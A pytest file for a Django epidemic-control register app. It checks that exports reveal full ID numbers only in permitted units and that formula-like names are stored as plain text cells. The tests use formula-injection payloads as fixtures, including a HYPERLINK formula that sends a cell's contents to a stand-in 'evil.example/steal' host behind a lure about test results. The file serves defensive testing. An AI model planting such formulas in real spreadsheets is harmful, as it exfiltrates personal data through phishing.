"""Issue 10, findings 2 and 18: what an exported or rejected-rows workbook may contain."""

import csv
import io

import pytest
from openpyxl import load_workbook

from conftest import County, Personas, body, login, make_resident_id, make_user
from fangkong.audit.models import AuditEvent
from fangkong.org.roles import Role
from fangkong.org.services import membership_grant, unit_create
from fangkong.people.importing import import_job_create, import_job_execute
from fangkong.people.models import Person
from fangkong.people.services import PersonInput, person_create

pytestmark = pytest.mark.django_db


def sheet_rows(response):
    assert response.status_code == 200
    return list(load_workbook(io.BytesIO(body(response))).active.iter_rows(min_row=2))


def add_person(personas: Personas, unit, name: str, sequence: str) -> Person:
    return person_create(
        actor=personas.commander,
        data=PersonInput(
            name=name, id_type="resident", id_number=make_resident_id(sequence=sequence), unit=unit
        ),
    )


def test_full_ids_are_revealed_only_in_the_units_where_the_user_may_reveal(
    personas: Personas, county: County, person_a: Person
):
    # given a user who may see full ID numbers in a pharmacy and keeps village A's register
    pharmacy = unit_create(
        code="PH", name="康宁药店", kind="pharmacy", region=county.hq.region, parent=county.township
    )
    add_person(personas, pharmacy, "药店店员", "033")
    user = make_user("pharmacy-epi", Role.EPIDEMIOLOGIST, pharmacy)
    membership_grant(user=user, unit=county.village_a, role=Role.GRID_WORKER)
    # when they export everyone with full ID numbers
    rows = sheet_rows(login(user).get("/people/export.xlsx?full=1"))
    # then only the pharmacy's person has a full number; village A's stays masked
    assert {row[1].value: row[3].value for row in rows} == {
        "药店店员": make_resident_id(sequence="033"),
        "张三": person_a.id_masked,
    }
    export = AuditEvent.objects.get(action="export")
    assert (export.changes["count"], export.changes["revealed"]) == (2, 1)
    assert "其中 1 人含完整证件号码" in export.summary


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?d","点我")', "+1", "-1", "@A1"])
def test_a_formula_name_is_a_text_cell_in_the_export(personas: Personas, county: County, name: str):
    add_person(personas, county.grid_a, name, "044")
    [row] = sheet_rows(login(personas.worker_a).get("/people/export.xlsx"))
    assert (row[1].value, row[1].data_type, row[1].quotePrefix) == (name, "s", True)


def test_a_formula_name_is_a_text_cell_in_the_rejected_rows_file(
    personas: Personas, county: County
):
    # given a rejected row whose name (too long) is a formula
    name = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击此处查看本人核酸检测结果与隔离通知")'
    out = io.StringIO()
    csv.writer(out).writerows([["姓名", "证件号码"], [name, make_resident_id(sequence="055")]])
    job = import_job_create(
        user=personas.worker_a,
        unit=county.grid_a,
        file_name="register.csv",
        content=out.getvalue().encode(),
    )
    import_job_execute(job.pk)
    # when the importer downloads the rejected rows
    [row] = sheet_rows(login(personas.worker_a).get(f"/people/import/{job.pk}/rejected.xlsx"))
    # then the name is the text typed, not a live formula
    assert (row[1].value, row[2].value, row[2].data_type) == ("姓名", name, "s")
